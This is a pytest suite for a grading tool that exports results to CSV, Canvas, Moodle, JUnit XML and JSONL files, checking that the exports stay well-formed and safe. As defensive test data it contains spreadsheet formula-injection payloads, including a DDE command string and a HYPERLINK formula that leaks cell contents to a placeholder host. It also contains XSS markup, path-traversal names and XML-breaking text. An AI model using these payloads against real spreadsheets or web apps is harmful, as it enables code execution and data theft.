"""The files that a grading leaves, each opened again by a reader that is not ours."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
from collections.abc import Iterable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import jsonschema  # type: ignore[import-untyped]
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checks import course
from checks.errors import CourseError
from checks.grading import exports
from checks.grading.exports import identity
from checks.grading.gradebook import storable
from checks.grading.graded import Graded
from checks.tests.graded import anything, graded, text, verdict
from checks.verdict import Report, Status

EVERY = ("canvas", "moodle")

ADA = graded(
    "ada",
    verdict(Status.PASSED, "one"),
    verdict(Status.FAILED, "two", mistake="forgot"),
    verdict(Status.NOT_ATTEMPTED, "three"),
)
BOB = graded(
    "bob",
    verdict(Status.PASSED, "one"),
    verdict(Status.FAULT, "two"),
    verdict(Status.NOT_RUN, "three"),
    look=("The check of 03.two broke; its points are not the learner's to lose.",),
)


def write(out: Path, *submissions: Graded) -> None:
    exports.write(lambda: submissions, course.catalogue(), out, EVERY)


def records(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file, strict=True))


def grid(path: Path, delimiter: str = ",", strict: bool = True) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=strict, delimiter=delimiter))


def tables(out: Path) -> list[Path]:
    return sorted(out.rglob("*.csv"))


# -- grades.csv -----------------------------------------------------------------------------------
def test_a_row_a_learner_and_columns_in_order(tmp_path: Path) -> None:
    write(tmp_path, graded("ada", verdict(name="zero"), lesson="00"), ADA, BOB)
    header, ada, bob = grid(tmp_path / "grades.csv")
    assert header == [
        *("learner", "00 points", "00 max", "03.zero points", "03.zero status"),
        *("03 points", "03 max", "03.one points", "03.one status"),
        *("03.two points", "03.two status", "03.three points", "03.three status"),
        *("total", "total max", "needs a look"),
    ]
    assert ada[:5] == ["ada", "2", "2", "2", "passed"]
    assert ada[5:] == [
        *("2.5", "6", "2", "passed", "0.5", "failed", "0", "not attempted", "4.5", "8", ""),
    ]
    assert bob[1:5] == ["", "2", "", ""]  # not handed in: blank, and nothing in the total


def test_a_fault_is_nobodys_zero(tmp_path: Path) -> None:
    write(tmp_path, ADA, BOB)
    bob = records(tmp_path / "grades.csv", "utf-8-sig")[1]
    assert (bob["03.two points"], bob["03.two status"]) == ("", "fault")
    assert (bob["03.one points"], bob["03 points"], bob["total"]) == ("2", "", "")
    assert bob["needs a look"].startswith("needs a look: 03: The check of 03.two broke")
    canvas = records(tmp_path / "canvas.csv")
    assert [row["03 Transactions"] for row in canvas] == ["6", "2.5", ""]
    moodle = records(tmp_path / "moodle" / "03-gradebook.csv")
    assert [row["Grade"] for row in moodle] == ["2.5", ""]


def test_exercises_that_have_changed_in_between_keep_their_columns(tmp_path: Path) -> None:
    write(tmp_path, graded("ada", verdict(name="old")), graded("bob", verdict(name="new")))
    ada, bob = records(tmp_path / "grades.csv", "utf-8-sig")
    assert (ada["03.old points"], ada["03.new points"]) == ("2", "")
    assert (bob["03.old status"], bob["03.new status"]) == ("", "passed")


def test_nobody_is_a_table_with_a_header(tmp_path: Path) -> None:
    write(tmp_path)
    assert grid(tmp_path / "grades.csv") == [["learner", "total", "total max", "needs a look"]]
    assert list(ElementTree.parse(tmp_path / "junit.xml").getroot()) == []
    assert (tmp_path / "results.jsonl").read_text() == ""


FORMULAS = [
    "=1+2",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "a;=cmd|'/c calc'!A1;b",
    "a; \t=1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\0=1",
    '=HYPERLINK("http://x?"&A1,"click")',
]
_COMPUTES = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def assert_no_cell_computes(path: Path) -> None:
    """As a spreadsheet splits it here, and as one does where a comma is a decimal sign."""
    rows = grid(path)
    assert len({len(row) for row in rows}) == 1
    for delimiter in (",", ";"):
        for row in grid(path, delimiter, strict=delimiter == ","):
            assert not [cell for cell in row if _COMPUTES.match(cell)], row
    assert not re.search(r"[\x00-\x09\x0b\x0c\x0e-\x1f]", path.read_text(encoding="utf-8-sig"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_gets_into_a_spreadsheet(tmp_path: Path, formula: str) -> None:
    write(
        tmp_path,
        graded(
            formula,
            verdict(Status.FAILED, message=formula, title=formula),
            file=f"{formula}_12_assignsubmission_file_/03.ipynb",
            look=(formula,),
        ),
        graded(formula + "x", file=f"{formula}x_12_34_03.ipynb"),
    )
    assert len(tables(tmp_path)) >= 3
    for path in tables(tmp_path):
        assert_no_cell_computes(path)


@given(submissions=st.lists(anything, max_size=3))
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_anything_makes_files_that_can_be_read(tmp_path: Path, submissions: list[Graded]) -> None:
    write(tmp_path, *submissions)
    for path in tables(tmp_path):
        if path.parent == tmp_path:
            assert_no_cell_computes(path)
    suites = ElementTree.parse(tmp_path / "junit.xml").getroot()
    assert len(suites) == len(submissions)
    for suite in suites:
        check_suite(suite)
    lines = [json.loads(one) for one in lines_of(tmp_path / "results.jsonl")]
    assert [one["learner"] for one in lines] == [storable(one).learner for one in submissions]


def lines_of(path: Path) -> list[str]:
    """Lines as other programs see them, which know one kind of line break."""
    return path.read_bytes().decode().split("\n")[:-1]


# -- Canvas ---------------------------------------------------------------------------------------
def test_canvas_finds_its_students_and_assignments(tmp_path: Path) -> None:
    write(
        tmp_path,
        graded("doejane", file="doejane_LATE_1234_5678_03_transactions-1.ipynb"),
        graded("roe", file="roe/03.ipynb"),
        graded("smith (77)", file="all.zip/smith_77_88_03.ipynb"),
    )
    header, points, *students = grid(tmp_path / "canvas.csv")
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "03 Transactions"]
    assert points == ["    Points Possible", "", "", "", "", "2"]
    assert students == [
        ["doejane", "1234", "", "", "", "2"],
        ["roe", "", "", "roe", "", "2"],
        ["smith (77)", "77", "", "", "", "2"],
    ]
    assert (tmp_path / "canvas.csv").read_bytes()[:9] == b'"Student"'  # a mark before it is refused


@pytest.mark.parametrize("name", ["Points Possible", "x Points Possible", "Points\tPossible"])
def test_no_learner_says_what_an_assignment_is_worth(tmp_path: Path, name: str) -> None:
    write(tmp_path, graded(name))
    _, points, learner = grid(tmp_path / "canvas.csv")
    assert "Points Possible" in points[0]
    assert "Points Possible" not in learner[0]


# -- Moodle ---------------------------------------------------------------------------------------
def test_moodle_knows_participants_by_their_number(tmp_path: Path) -> None:
    write(
        tmp_path,
        graded("Ada Byron", file="Ada Byron_4711_assignsubmission_file_/03.ipynb"),
        graded("20261124000042"),
    )
    [ada] = records(tmp_path / "moodle" / "03-worksheet.csv")
    assert ada["Identifier"] == "Participant 4711"
    assert (ada["Full name"], ada["Grade"], ada["Maximum grade"]) == ("Ada Byron", "2", "2")
    assert ada["Last modified (grade)"] == "2026-11-24 12:00:00 UTC"
    assert ada["Feedback comments"] == (
        "Lesson 03 Transactions: 2 of 2 points<br>The one: 2 of 2 points. It is passed."
    )
    # The worksheet's importer drops twelve characters and takes the rest as a number.
    [other] = records(tmp_path / "moodle" / "03-gradebook.csv")
    assert other["Username"] == "20261124000042"
    assert "Identifier" not in other


def test_a_project_is_feedback_without_a_grade(tmp_path: Path) -> None:
    ticket = verdict(lesson="09p", exercise="09p.till", points=0, max_points=0)
    write(tmp_path, graded("ada", ticket, lesson="09p"), graded("ada"))
    [row] = records(tmp_path / "moodle" / "09p-gradebook.csv")
    assert (row["Grade"], row["Maximum grade"]) == ("", "")
    assert row["Feedback comments"] == "Lesson 09p Half-way<br>The one: passed. It is passed."
    assert grid(tmp_path / "canvas.csv")[0][5:] == ["03 Transactions"]
    [row] = records(tmp_path / "grades.csv", "utf-8-sig")
    assert (row["09p.till status"], row["total"], row["total max"]) == ("passed", "2", "2")


def test_feedback_is_text_to_moodle(tmp_path: Path) -> None:
    hostile = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    write(tmp_path, graded("ada", verdict(Status.FAILED, message=hostile, title=hostile)))
    [row] = records(tmp_path / "moodle" / "03-gradebook.csv")
    seen: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: Any) -> None:
            seen.append(tag)

    Tags().feed(row["Feedback comments"])
    assert set(seen) == {"br"}


@pytest.mark.parametrize(
    ("learner", "file"),
    [
        ("mallory", "mallory/ada_12_34_03.ipynb"),
        ("mallory", "mallory/Ada_12_assignsubmission_file_/03.ipynb"),
        ("mallory", "submitted/mallory/lesson/mallory_12_34_03.ipynb"),
        ("mallory", "mallory.ipynb"),
        ("Mallory", "Mallory_5_assignsubmission_file_/Ada_7_assignsubmission_file_/03.ipynb"),
        ("ada", "ada (12)_3_assignsubmission_file_/03.ipynb"),
        ("mallory", ""),
    ],
)
def test_nobody_takes_another_ones_number(learner: str, file: str) -> None:
    assert identity.canvas(learner, file) is None
    found = identity.moodle(learner, file)
    assert found is None or (found.name, found.number) == ("Mallory", "5")


def test_lessons_of_any_name_stay_in_the_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    write(out, graded("ada", lesson="../../x"), graded("ada", lesson="/y"))
    assert {path.parent for path in tmp_path.rglob("*.*")} <= {tmp_path, out, out / "moodle"}
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


# -- junit.xml ------------------------------------------------------------------------------------
def check_suite(suite: ElementTree.Element) -> None:
    """What Ant's and Jenkins's schemas ask of a suite, as far as one can get it wrong."""
    assert suite.tag == "testsuite"
    assert set(suite.attrib) == {
        *("name", "package", "id", "timestamp", "hostname"),
        *("tests", "failures", "errors", "skipped", "time"),
    }
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", suite.attrib["timestamp"])
    assert all(suite.attrib[name] for name in ("name", "package", "hostname"))
    cases = suite.findall("testcase")
    assert [one.tag for one in suite] == [
        "properties",
        *["testcase"] * len(cases),
        "system-out",
        "system-err",
    ]
    found = [case[0].tag for case in cases if len(case)]
    for kind, count in (("failure", "failures"), ("error", "errors"), ("skipped", "skipped")):
        assert suite.attrib[count] == str(found.count(kind))
    assert suite.attrib["tests"] == str(len(cases))
    for case in cases:
        assert set(case.attrib) == {"name", "classname", "time"}
        assert re.fullmatch(r"\d+\.\d+", case.attrib["time"])
        assert len(case) <= 1
        for one in case:
            assert set(one.attrib) == ({"message"} if one.tag == "skipped" else {"message", "type"})


def test_every_status_is_an_outcome(tmp_path: Path) -> None:
    everything = [verdict(status, status.value) for status in Status]
    write(tmp_path, graded("ada", *everything, look=("Look <here>.",)))
    [suite] = ElementTree.parse(tmp_path / "junit.xml").getroot()
    check_suite(suite)
    found = {
        case.attrib["name"].removeprefix("03."): case[0].tag if len(case) else "passed"
        for case in suite.findall("testcase")
    }
    assert found == {
        "passed": "passed",
        "failed": "failure",
        "not_attempted": "skipped",
        "not_run": "skipped",
        "timed_out": "error",
        "died": "error",
        "unreadable": "error",
        "fault": "error",
    }
    [case] = [one for one in suite.iter("testcase") if one.attrib["name"] == "03.failed"]
    assert case.attrib["classname"] == "ada/03"
    assert case[0].attrib == {"message": "It is failed.", "type": "failed"}
    assert "It did not." in (case[0].text or "")
    assert suite.findtext("system-err") == "Look <here>."


@given(message=text, name=text)
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_text_breaks_the_xml(tmp_path: Path, message: str, name: str) -> None:
    hostile = f"]]>&<{message}\x00\x0b\x1b\ufffe\ud800</testsuites>"
    write(tmp_path, graded(name, verdict(Status.FAILED, message=hostile, mistake=hostile)))
    [suite] = ElementTree.parse(tmp_path / "junit.xml").getroot()
    check_suite(suite)


# -- results.jsonl --------------------------------------------------------------------------------
def test_reports_are_as_check_prints_them(tmp_path: Path) -> None:
    write(tmp_path, ADA, BOB)
    lines = [json.loads(one) for one in lines_of(tmp_path / "results.jsonl")]
    for line, one in zip(lines, (ADA, BOB), strict=True):
        jsonschema.validate(line["report"], Report.model_json_schema())
        assert Report.model_validate(line["report"]) == one.report
        assert line["learner"] == one.learner
    assert lines[1]["look"] == list(BOB.look)
    assert lines[0]["graded_at"] == "2026-11-24T12:00:00+00:00"


def test_json_is_strict(tmp_path: Path) -> None:
    odd = verdict()
    assert odd.evidence is not None
    odd.evidence.seen = {"infinite": float("inf"), "none": float("nan"), "long": 10**5000}
    odd.evidence.ms = float("-inf")
    write(tmp_path, graded("ada", odd))

    def refuse(constant: str) -> Any:
        raise AssertionError(constant)

    [line] = lines_of(tmp_path / "results.jsonl")
    seen = json.loads(line, parse_constant=refuse)["report"]["exercises"][0]["evidence"]["seen"]
    assert seen == {"infinite": "inf", "none": "nan", "long": "a whole number of 16610 bits"}


# -- whole or not at all --------------------------------------------------------------------------
def test_an_interruption_leaves_the_files_as_they_were(tmp_path: Path) -> None:
    write(tmp_path, ADA)
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}

    def broken() -> Iterator[Graded]:
        yield BOB
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        exports.write(broken, course.catalogue(), tmp_path, EVERY)
    after = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    assert after == before


def test_a_file_that_cannot_be_written_is_said(tmp_path: Path) -> None:
    (tmp_path / "grades.csv").mkdir()
    with pytest.raises(CourseError, match=r"grades\.csv cannot be written"):
        write(tmp_path, ADA)
    (tmp_path / "file").write_text("")
    with pytest.raises(CourseError, match="cannot be written"):
        write(tmp_path / "file" / "out", ADA)


def test_a_class_is_never_held(tmp_path: Path) -> None:
    """The memory of 300 submissions of 100 KB each stays far below what they are together."""

    def some() -> Iterable[Graded]:
        for number in range(300):
            one = verdict(Status.FAILED)
            assert one.evidence is not None
            one.evidence.seen = {"body": f"{number:010}" * 10_000}
            yield graded(f"{number:03}", one)

    tracemalloc.start()
    try:
        exports.write(some, course.catalogue(), tmp_path, EVERY)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(lines_of(tmp_path / "results.jsonl")) == 300
    assert peak < 5_000_000


def test_what_is_read_by_a_spreadsheet_opens_as_utf_8(tmp_path: Path) -> None:
    write(tmp_path, graded("Zoë Ångström 中"))
    data = (tmp_path / "grades.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
    assert rows[1][0] == "Zoë Ångström 中"
